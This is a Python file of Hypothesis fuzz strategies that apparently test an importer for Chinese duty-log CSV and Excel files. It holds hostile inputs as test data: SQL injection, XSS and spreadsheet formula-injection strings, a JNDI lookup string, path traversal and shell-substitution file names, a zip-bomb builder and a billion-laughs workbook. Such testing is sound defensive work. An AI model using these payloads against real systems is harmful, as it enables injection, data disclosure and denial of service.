"""What nobody would type and somebody will send: texts, times, numbers, names and files, as hypothesis draws them."""
from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date, datetime, time
from typing import Any

import openpyxl
from hypothesis import strategies as st

TEXTS = (
    "", " ", "　", "'", "\"; drop table duty_entry; --", "' or 1=1 --", "1); delete from ledger_entry; --", "%",
    "_", "*",
    "<script>alert(1)</script>", "<b>粗</b>&nbsp;&#0;", "<img src=x onerror=alert(1)>", "{0}", "{name}", "%s %n %d",
    "\\",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+86", "-5", "--", "--user", "\t=1", "＝1",
    "${jndi:ldap://x/a}",
    "\x00", "a\x00b", "\x07", "\x1b[31m红\x1b[0m", "\r\n", "\n" * 50, "\x85", "\x7f", "\ufeff", "\ufffe", "\uffff",
    "\u202e13800138000", "\u2066甲\u2069", "\u202a138\u202c", "\u200b", "\u200d", "a\u0301" * 40, "\ud800", "\udc80",
    "\udfff\ud800", "𠮷野家 㐀", "\U0010ffff", "📞👨‍👩‍👧", "ﷺ" * 30, "İıſß", "½㊿⑴㍙", "٣٤", "１２３", "x" * 100,
    "市" * 300, "甲" * 25_000, "0", "-1", "1e400", "NaN", "inf", "9" * 5000, str(2**31), str(2**31 - 1), str(2**63),
    str(-(2**63)), "0x10", "1_000", "٢", "null", "true", "[" * 3000, "{\"a\":", "call_in", "done", "te_ti", "meeting",
    "6月31日（星期八）", "2月30日星期一", "0000年0月0日星期天", "市应急局　郑立　110", "一　二　三　四　五",
    "8231110转\u202e",
    "site.zone", "../../etc/passwd", "Asia", "Asia/Shanghai", "/etc", "day_night", "99:99", "24:00", "02:00+08:00",
    "#0", "#999999999", "9999d", "9999h", "昨天", "9999-12-31", "0001-01-01", "1月1日-", "-12月31日", "来源:",
    "来源:\ud800",
    "\"", "“", "\"a\"b\"", " ".join("一二三四五六七八九十") * 30, "( OR NEAR( *", "a AND", "\"\"\"", "^x", "x:y", "-x",
)
MOMENTS = (
    "2026-06-24T02:44", "0001-01-01T00:00", "0001-01-01", "9999-12-31T23:59:59.999999", "9999-12-31", "1899-12-31",
    "2026-02-30", "2026-06-24T24:00", "2026-06-24T02:44+25:00", "2026-06-24T02:44-23:59", "0001-01-01T00:00+14:00",
    "9999-12-31T23:59-14:00", "2026-W26-3", "20260624T0244", "２０２６-06-24", "1970-01-01", "2199-12-31", "1900-01-01",
    "-2026-06-24", "2026-06-24 02:44", "2026-06-24T02:44:60", "",
)
NAMES = (
    "a.csv", "a.xlsx", "a.pdf", "a", "", ".", "..", "../a.csv", "..\\..\\a.pdf", "a/../../a.csv", "C:\\a.pdf",
    "CON.pdf", "nul.txt",
    "a.pdf\x00.exe", "\x00", "a\nb.pdf", "\u202efdp.exe", "a\u202e.pdf", "\ud800.pdf", "\udcff.csv",
    "值班" * 100 + ".csv", "é" * 300,
    " .csv", ".csv", "a.CSV", "a.xlsx.", "-a.csv", "--json", "a b.pdf", "$(id).pdf", "`id`.csv", "%00.pdf", "*.csv",
    "a.pdf/", "~",
    "folder.csv", "folder.xlsx", "folder.pdf",
)

text = st.one_of(st.sampled_from(TEXTS), st.text(st.characters(exclude_categories=()), max_size=60))
number = st.one_of(st.integers(-3, 20).map(str), st.sampled_from(TEXTS), st.integers().map(str))
moment = st.one_of(st.sampled_from(MOMENTS), st.datetimes().map(lambda at: at.isoformat()), text)
name = st.one_of(st.sampled_from(NAMES), text)
json_value: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text, inner, max_size=4), max_leaves=8,
)

# tables -----------------------------------------------------------------
HEADINGS = ("日期", "时间", "日期时间", "类别", "来电单位", "姓名", "电话", "内容", "结果", "记录人", "备注", "",
"内容", "班次", "带班领导", "夜班主班", "夜", "\u202e")
GOOD = ("2026-06-20", "2026-06-20 08:30", "08:30", "市应急局", "来电", "暴雨积水，请求支援", "13812345678",
"已办结", "张三")
DAYS = (
    "9999-12-31 23:59", "0001-01-01 00:00", "1900-01-01 00:00", "2026-13-45 25:61", "2026年2月30日 8时",
    "46197.999999", "99999",
    "-1", "0.5", "1e308", "20260620", "下午 8:30", "8点整", "2026-06-20T08:30:00.123", "2026/6/20（周八）", "1e5",
    "80000", "0",
)
# a cell of a million characters, once in a while
million = st.integers(0, 29).map(lambda once: "字" * 1_000_000 if once == 29 else "雨")
cell = st.one_of(
    st.sampled_from(GOOD), st.sampled_from(GOOD), st.sampled_from(DAYS), text, million,
    st.sampled_from(GOOD),
)
typed = st.one_of(
    cell, st.integers(), st.floats(), st.booleans(), st.none(), st.datetimes(datetime(1900, 3, 1), datetime(9999,
    12, 31)),
    st.dates(date(1900, 3, 1)), st.times(), st.just(2**63), st.just(time(0)), st.just("=1+1"),
    st.just("=HYPERLINK(\"http://x\")"),
)
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gbk", "gb18030", "big5", "utf-32", "utf-7",
"latin-1")


def table(one: st.SearchStrategy[Any]) -> st.SearchStrategy[list[list[Any]]]:
    """Mostly a log that can be read, with a few cells of another kind."""
    good = st.tuples(*(st.one_of(st.just(value), st.just(value), st.just(value), one) for value in (
        "2026-06-20 08:30", "来电", "市应急局", "暴雨积水，请求支援"
    ))).map(list)
    mixed = st.tuples(
        st.just(["日期时间", "类别", "来电单位", "内容"]), st.lists(good, max_size=5)
    ).map(lambda parts: [parts[0], *parts[1]])
    wild = st.tuples(
        st.lists(st.sampled_from(HEADINGS), min_size=1, max_size=6), st.lists(st.lists(one, max_size=7), max_size=4)
    ).map(lambda parts: [parts[0], *parts[1]])
    return st.one_of(mixed, mixed, wild)


def as_csv(rows: list[list[Any]], mark: str, encoding: str, quoted: bool) -> bytes:
    lines = []
    for row in rows:
        cells = ["" if one is None else str(one) for one in row]
        lines.append(mark.join('"' + one.replace('"', '""') + '"' for one in cells) if quoted else mark.join(cells))
    return "\r\n".join(lines).encode(encoding, errors="replace")


def as_xlsx(rows: list[list[Any]]) -> bytes:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils.exceptions import IllegalCharacterError

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("log")
    for row in rows:
        cells = []
        for one in row:
            try:
                plain = one.encode("utf-8", "replace").decode()[:32_767] if isinstance(one, str) else one
                plain = str(plain) if isinstance(plain, int) and abs(plain) > 10**300 else plain
                cells.append(WriteOnlyCell(sheet, plain))
            except (IllegalCharacterError, ValueError):
                cells.append(WriteOnlyCell(sheet, "?"))
        sheet.append(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def bomb() -> bytes:
    """A workbook of a few hundred kilobytes that unpacks to 300 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(300):
                part.write(b"0" * 1_000_000)
    return out.getvalue()


def entities() -> bytes:
    """A workbook whose sheet is a billion laughs."""
    plain = as_xlsx([["日期时间"], ["x"]])
    laughs = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.infolist():
            content = old.read(part)
            if part.filename.endswith("sheet1.xml"):
                head = b'<!DOCTYPE x [<!ENTITY a0 "ha">' + laughs + b"]>"
                content = head + content.replace(b"<sheetData>", b"&a9;<sheetData>")
            new.writestr(part.filename, content)
    return out.getvalue()


def repacked(content: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with every part changed; the archive itself is whole."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.infolist():
            new.writestr(part.filename, change(old.read(part)))
    return out.getvalue()


@st.composite
def spoilt(draw: st.DrawFn, content: bytes) -> bytes:
    """The bytes, whole in one of two cases; else cut off, with bits turned, pieces doubled or put in."""
    how = draw(st.integers(0, 7))
    if how < 4 or not content:
        return content
    # as a share of the whole: a workbook has its time in it, and is now and then a byte longer
    places = st.integers(0, 999_999).map(lambda share: share * len(content) // 1_000_000)
    at = draw(places)
    if how == 4:
        return content[:at]
    if how == 5:
        turned = bytearray(content)
        for place in draw(st.lists(places, min_size=1, max_size=12)):
            turned[place] ^= 1 << draw(st.integers(0, 7))
        return bytes(turned)
    if how == 6:
        end = draw(places)
        return content[:at] + content[min(at, end) : end] + content[at:]
    return content[:at] + draw(st.binary(max_size=40)) + content[at:]


@st.composite
def table_file(draw: st.DrawFn) -> tuple[str, bytes]:
    """An ending and the content of a file to be taken over."""
    how = draw(st.integers(0, 9))
    if how < 5:
        mark, encoding = draw(st.sampled_from(",;\t|")), draw(st.sampled_from(ENCODINGS))
        content = as_csv(draw(table(cell)), mark, encoding, draw(st.booleans()))
        return draw(st.sampled_from((".csv", ".csv", ".txt", ".tsv", ".xlsx"))), draw(spoilt(content))
    if how < 9:
        content = as_xlsx(draw(table(typed)))
        if how == 8:
            old, new = draw(st.sampled_from((
                (b"<v>", b"<v>-"), (b"<row ", b"<row r=\"99999999\" "), (b"<c ", b"<c r=\"ZZZZ9\" "), (b"<c ",
                b"<c t=\"d\" "),
                (b"</sheetData>", b""), (b"UTF-8", b"UTF-7"), (b"t=\"s\"", b"t=\"e\""), (b"utf-8", b"gbk"), (b"<v>",
                b"<v>9e999"),
                (b"sheet1.xml", b"../../../etc/passwd"), (b"<f>", b"<f t=\"shared\">"), (b"numFmtId=\"0\"",
                b"numFmtId=\"99999\""),
            )))
            content = repacked(content, lambda part: part.replace(old, new))
        return draw(st.sampled_from((".xlsx", ".xlsx", ".xlsm", ".csv"))), draw(spoilt(content))
    return draw(st.sampled_from((".csv", ".xlsx", ".xls", ".pdf", "", ".txt"))), draw(st.binary(max_size=300))
